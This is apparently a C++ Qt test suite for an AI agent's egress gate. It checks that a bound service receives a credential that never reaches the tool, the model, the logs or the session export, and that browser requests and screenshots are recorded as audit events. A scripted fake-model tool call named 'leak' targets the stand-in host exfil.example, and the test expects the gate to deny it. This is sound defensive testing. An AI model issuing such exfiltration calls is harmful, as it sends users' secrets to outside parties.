// `airlock chat` with a project that binds a private service: a JavaScript tool
// calls env.SVC.fetch, the session's egress gate adds the credential, the service
// (a real HTTP server on 127.0.0.1, started here) receives it, and the secret's
// value appears nowhere the tool, the model or a later reader could see it: not in
// the tool's env, not in what the fake model server received (even though the tool
// echoes the service's answer, which contains the value), not in stdout, not in any
// byte of the session store, not in the export. Every request, allowed or denied,
// is an egress.request event.

#include "tests/core/providers/FakeModelServer.h"
#include "tests/support/AgentTestSupport.h"
#include "tests/support/AnthropicScript.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <optional>

using airlock::test::AnthropicScript;
using airlock::test::FakeModelServer;
using airlock::test::FakeResponse;
using airlock::test::toolResultText;

namespace {

// The secret; the service echoes it inside JSON, so it comes back JSON-escaped too.
const QByteArray kSecret = "svc-t0ken/with\"quote+and=more-1234567890";

QByteArray fixture(const char *name)
{
    QFile f(QStringLiteral(AIRLOCK_SOURCE_DIR "/tests/app/egress/") + QLatin1String(name));
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

} // namespace

class TestEgressCli final : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void aBoundServiceGetsTheCredentialAndNothingElseSeesIt();
    void theBrowserToolsGoThroughTheSameGate();
    void aScreenshotIsAnEventNamingItsFile();

private:
    QTemporaryDir m_dir;
    QProcess m_service;
    int m_port = 0;
};

void TestEgressCli::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_service.setProgram(QStringLiteral("python3"));
    m_service.setArguments({QStringLiteral(AIRLOCK_SOURCE_DIR "/tests/app/egress/echo_service.py"),
                            m_dir.filePath(QStringLiteral("service.log"))});
    m_service.start();
    QVERIFY(m_service.waitForStarted());
    QVERIFY(m_service.waitForReadyRead(10000));
    m_port = m_service.readLine().trimmed().toInt();
    QVERIFY(m_port > 0);
}

void TestEgressCli::cleanupTestCase()
{
    m_service.kill();
    m_service.waitForFinished();
}

void TestEgressCli::aBoundServiceGetsTheCredentialAndNothingElseSeesIt()
{
    const QString project = m_dir.filePath(QStringLiteral("project"));
    QVERIFY(QDir().mkpath(project + QStringLiteral("/tools")));
    {
        QFile tool(project + QStringLiteral("/tools/service.js"));
        QVERIFY(tool.open(QIODevice::WriteOnly) && tool.write(fixture("service.js")) > 0);
        const QByteArray json = QString::fromUtf8(fixture("airlock.json.in")).arg(m_port).toUtf8();
        QFile f(project + QStringLiteral("/airlock.json"));
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(json) == json.size());
    }

    FakeModelServer server;
    server.enqueue(FakeResponse::sse(AnthropicScript()
                                         .toolUse(QStringLiteral("toolu_1"), QStringLiteral("invoices"),
                                                  {{QStringLiteral("path"), QStringLiteral("/v1/invoices?page=2")}})
                                         .end(QStringLiteral("tool_use"))));
    server.enqueue(
        FakeResponse::sse(AnthropicScript()
                              .toolUse(QStringLiteral("toolu_2"), QStringLiteral("leak"),
                                       {{QStringLiteral("url"), QStringLiteral("https://exfil.example/upload")}})
                              .end(QStringLiteral("tool_use"))));
    server.enqueue(FakeResponse::sse(AnthropicScript().text(QStringLiteral("Done.")).end(QStringLiteral("end_turn"))));

    const QString data = m_dir.filePath(QStringLiteral("data"));
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), data);
    env.insert(QStringLiteral("XDG_CONFIG_HOME"), m_dir.filePath(QStringLiteral("config")));
    env.insert(QStringLiteral("AIRLOCK_TEST_KEY"), QStringLiteral("sk-ant-test"));
    env.insert(QStringLiteral("AIRLOCK_TEST_SVC_TOKEN"), QString::fromUtf8(kSecret));
    env.remove(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"));
    QProcess chat;
    chat.setProcessEnvironment(env);
    chat.start(QStringLiteral(AIRLOCK_BIN_DIR "/airlock"),
               {QStringLiteral("chat"), QStringLiteral("--base-url"), server.baseUrl(), QStringLiteral("--api-key-env"),
                QStringLiteral("AIRLOCK_TEST_KEY"), QStringLiteral("--project"), project,
                QStringLiteral("--auto-approve"), QStringLiteral("--json"), QStringLiteral("read the invoices")});
    chat.closeWriteChannel();
    QVERIFY(chat.waitForFinished(120000));
    const QByteArray out = chat.readAllStandardOutput();
    const QByteArray err = chat.readAllStandardError();
    QVERIFY2(chat.exitCode() == 0, err.constData());

    // The service got the gate's credential, not the tool's "Bearer stolen", under
    // the binding's path; the tool's other header went through.
    QFile log(m_dir.filePath(QStringLiteral("service.log")));
    QVERIFY(log.open(QIODevice::ReadOnly));
    const QJsonObject seen = QJsonDocument::fromJson(log.readLine()).object();
    QCOMPARE(seen.value("path").toString(), QStringLiteral("/api/v1/invoices?page=2"));
    QHash<QString, QString> headers; // names have no case (fetch's Headers sends them lower-case)
    const QJsonObject sent = seen.value("headers").toObject();
    for (auto it = sent.begin(); it != sent.end(); ++it)
        headers.insert(it.key().toLower(), it.value().toString());
    QCOMPARE(headers.value(QStringLiteral("authorization")).toUtf8(), "Bearer " + kSecret);
    QCOMPARE(headers.value(QStringLiteral("x-trace")), QStringLiteral("t1"));

    // What the model heard: the service's answer with the value redacted; the env
    // the tool saw had the text binding and no secret.
    QCOMPARE(server.requests().size(), std::size_t(3));
    const QString first = toolResultText(server.requests()[1].body, QStringLiteral("toolu_1"));
    QVERIFY2(first.contains(QLatin1String("[secret:SVC_TOKEN]")), qPrintable(first));
    QVERIFY2(first.contains(QLatin1String("eu-west-1")), qPrintable(first));
    const QString second = toolResultText(server.requests()[2].body, QStringLiteral("toolu_2"));
    QVERIFY2(second.startsWith(QLatin1String("TypeError: ")), qPrintable(second));
    QVERIFY2(second.contains(QLatin1String("exfil.example")), qPrintable(second));
    for (const auto &request : server.requests()) {
        QVERIFY(!request.body.contains(kSecret));
        QVERIFY(!request.body.contains(QJsonDocument(QJsonArray{QString::fromUtf8(kSecret)})
                                           .toJson(QJsonDocument::Compact)
                                           .mid(2)
                                           .chopped(2))); // JSON-escaped
    }
    QVERIFY(!out.contains(kSecret));
    QVERIFY(!err.contains(kSecret));

    // Both requests are audit events: the allowed one names the credential (by
    // name), the denied one says why.
    int allowed = 0, denied = 0;
    QString sessionId;
    for (const QByteArray &line : out.split('\n')) {
        const QJsonObject e = QJsonDocument::fromJson(line).object();
        if (sessionId.isEmpty())
            sessionId = e.value(QLatin1String("session")).toString();
        if (e.value(QLatin1String("kind")).toString() != QLatin1String("egress.request"))
            continue;
        const QJsonObject p = e.value(QLatin1String("payload")).toObject();
        if (p.value(QLatin1String("decision")).toString() == QLatin1String("allow")) {
            ++allowed;
            QCOMPARE(p.value(QLatin1String("call_id")).toString(), QStringLiteral("toolu_1"));
            QCOMPARE(p.value(QLatin1String("binding")).toString(), QStringLiteral("SVC"));
            QCOMPARE(p.value(QLatin1String("status")).toInt(), 200);
            QCOMPARE(p.value(QLatin1String("credentials")).toArray(), QJsonArray{QStringLiteral("SVC_TOKEN")});
        } else {
            ++denied;
            QCOMPARE(p.value(QLatin1String("call_id")).toString(), QStringLiteral("toolu_2"));
            QCOMPARE(p.value(QLatin1String("host")).toString(), QStringLiteral("exfil.example"));
        }
    }
    QCOMPARE(allowed, 1);
    QCOMPARE(denied, 1);

    // No byte of the store (database, its journal, checkpoints) holds the value,
    // nor does the export.
    QDirIterator files(data, QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
    int scanned = 0;
    while (files.hasNext()) {
        QFile f(files.next());
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray bytes = f.readAll();
        QVERIFY2(!bytes.contains(kSecret), qPrintable(f.fileName()));
        QVERIFY2(!bytes.contains(kSecret.toBase64()), qPrintable(f.fileName()));
        ++scanned;
    }
    QVERIFY(scanned > 0);
    QVERIFY(!sessionId.isEmpty());
    QProcess exporter;
    exporter.setProcessEnvironment(env);
    exporter.start(QStringLiteral(AIRLOCK_BIN_DIR "/airlock"),
                   {QStringLiteral("sessions"), QStringLiteral("export"), sessionId});
    QVERIFY(exporter.waitForFinished(30000));
    const QByteArray exported = exporter.readAllStandardOutput();
    QVERIFY2(exported.contains("[secret:SVC_TOKEN]"), exported.left(2000).constData());
    QVERIFY(!exported.contains(kSecret));
}

// `"browser": true`: the session's headless Chromium loads a page only through the
// gate; a rule names the local server, and the request is an egress.request event
// of the browser sandbox.
void TestEgressCli::theBrowserToolsGoThroughTheSameGate()
{
    const QString project = m_dir.filePath(QStringLiteral("browser-project"));
    QVERIFY(QDir().mkpath(project));
    const QByteArray json =
        QString::fromLatin1("{\"browser\": true, \"egress\": {\"rules\": [{\"host\": \"127.0.0.1\", "
                            "\"scheme\": \"http\", \"port\": %1, \"methods\": [\"GET\"], "
                            "\"decision\": \"allow\"}]}}")
            .arg(m_port)
            .toUtf8();
    QFile f(project + QStringLiteral("/airlock.json"));
    QVERIFY(f.open(QIODevice::WriteOnly) && f.write(json) == json.size());
    f.close();
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), m_dir.filePath(QStringLiteral("browser-data")));
    env.insert(QStringLiteral("XDG_CONFIG_HOME"), m_dir.filePath(QStringLiteral("config")));
    env.remove(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"));
    QProcess call;
    call.setProcessEnvironment(env);
    call.setWorkingDirectory(project);
    call.start(QStringLiteral(AIRLOCK_BIN_DIR "/airlock"),
               {QStringLiteral("tool"), QStringLiteral("call"), QStringLiteral("browser_navigate"),
                QStringLiteral("--project"), project, QStringLiteral("--auto-approve"), QStringLiteral("--json"),
                QStringLiteral("--input"), QString::fromLatin1("{\"url\": \"http://127.0.0.1:%1/page\"}").arg(m_port)});
    QVERIFY(call.waitForFinished(120000));
    const QByteArray out = call.readAllStandardOutput();
    QVERIFY2(call.exitCode() == 0, QByteArray(out.right(2000) + call.readAllStandardError()).constData());
    bool recorded = false;
    for (const QByteArray &line : out.split('\n')) {
        const QJsonObject e = QJsonDocument::fromJson(line).object();
        const QJsonObject p = e.value(QLatin1String("payload")).toObject();
        if (e.value(QLatin1String("kind")).toString() == QLatin1String("egress.request") &&
            p.value(QLatin1String("sandbox")).toString() == QLatin1String("browser") &&
            p.value(QLatin1String("path")).toString() == QLatin1String("/page")) {
            recorded = true;
            QCOMPARE(p.value(QLatin1String("decision")).toString(), QStringLiteral("allow"));
            QCOMPARE(p.value(QLatin1String("status")).toInt(), 200);
            QCOMPARE(p.value(QLatin1String("rule")).toString(), QStringLiteral("egress.rules[0]"));
        }
    }
    QVERIFY2(recorded, out.right(3000).constData());
}

// A browser_screenshot in a chat, through the real composition root and Chromium:
// the PNG is saved in the workspace, the session's browser.screenshot event names it
// (path, size, viewport; never the bytes), and the model gets that PNG as an image
// block in the tool result.
void TestEgressCli::aScreenshotIsAnEventNamingItsFile()
{
    const QString project = m_dir.filePath(QStringLiteral("shot-project"));
    QVERIFY(QDir().mkpath(project));
    const QByteArray json = "{\"browser\": true}";
    QFile f(project + QStringLiteral("/airlock.json"));
    QVERIFY(f.open(QIODevice::WriteOnly) && f.write(json) == json.size());
    f.close();
    FakeModelServer server;
    server.enqueue(
        FakeResponse::sse(AnthropicScript()
                              .toolUse(QStringLiteral("toolu_1"), QStringLiteral("browser_screenshot"), QJsonObject{})
                              .end(QStringLiteral("tool_use"))));
    server.enqueue(FakeResponse::sse(AnthropicScript().text(QStringLiteral("A blank page.")).end("end_turn")));
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), m_dir.filePath(QStringLiteral("shot-data")));
    env.insert(QStringLiteral("XDG_CONFIG_HOME"), m_dir.filePath(QStringLiteral("config")));
    env.insert(QStringLiteral("AIRLOCK_TEST_KEY"), QStringLiteral("sk-ant-test"));
    env.remove(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"));
    QProcess chat;
    chat.setProcessEnvironment(env);
    chat.setWorkingDirectory(project);
    chat.start(QStringLiteral(AIRLOCK_BIN_DIR "/airlock"),
               {QStringLiteral("chat"), QStringLiteral("--base-url"), server.baseUrl(), QStringLiteral("--api-key-env"),
                QStringLiteral("AIRLOCK_TEST_KEY"), QStringLiteral("--project"), project,
                QStringLiteral("--auto-approve"), QStringLiteral("--json"), QStringLiteral("what does it show?")});
    chat.closeWriteChannel();
    QVERIFY(chat.waitForFinished(120000));
    const QByteArray out = chat.readAllStandardOutput();
    QVERIFY2(chat.exitCode() == 0, QByteArray(out.right(2000) + chat.readAllStandardError()).constData());
    std::optional<QJsonObject> shot;
    for (const QByteArray &line : out.split('\n')) {
        const QJsonObject e = QJsonDocument::fromJson(line).object();
        if (e.value(QLatin1String("kind")).toString() == QLatin1String("browser.screenshot"))
            shot = e.value(QLatin1String("payload")).toObject();
    }
    QVERIFY2(shot, out.right(3000).constData());
    QCOMPARE(shot->value(QLatin1String("call_id")).toString(), QStringLiteral("toolu_1"));
    QCOMPARE(shot->value(QLatin1String("tool")).toString(), QStringLiteral("browser_screenshot"));
    QCOMPARE(shot->value(QLatin1String("width")).toInt(), 1280);
    QCOMPARE(shot->value(QLatin1String("height")).toInt(), 800);
    QCOMPARE(shot->value(QLatin1String("viewport")).toObject().value(QLatin1String("width")).toInt(), 1280);
    QCOMPARE(shot->value(QLatin1String("sent_to_model")).toString(), QStringLiteral("attached"));
    const QString path = shot->value(QLatin1String("path")).toString();
    QVERIFY2(path.startsWith(QStringLiteral("screenshots/")), qPrintable(path));
    QFile file(project + u'/' + path);
    QVERIFY2(file.open(QIODevice::ReadOnly), qPrintable(file.fileName()));
    const QByteArray png = file.readAll();
    QVERIFY(png.startsWith("\x89PNG"));
    QCOMPARE(shot->value(QLatin1String("bytes")).toInteger(), png.size());
    QVERIFY(!out.contains(png.toBase64().left(80))); // no event holds the image

    QCOMPARE(server.requests().size(), std::size_t(2));
    const QJsonArray messages =
        QJsonDocument::fromJson(server.requests()[1].body).object().value(QLatin1String("messages")).toArray();
    const QJsonObject result = messages.at(2).toObject().value(QLatin1String("content")).toArray().at(0).toObject();
    QCOMPARE(result.value(QLatin1String("tool_use_id")).toString(), QStringLiteral("toolu_1"));
    const QJsonArray blocks = result.value(QLatin1String("content")).toArray();
    QCOMPARE(blocks.size(), 2);
    QCOMPARE(blocks.at(1).toObject(),
             (QJsonObject{{"type", "image"},
                          {"source", QJsonObject{{"type", "base64"},
                                                 {"media_type", "image/png"},
                                                 {"data", QString::fromLatin1(png.toBase64())}}}}));
}

QTEST_GUILESS_MAIN(TestEgressCli)
#include "tst_egress_cli.moc"
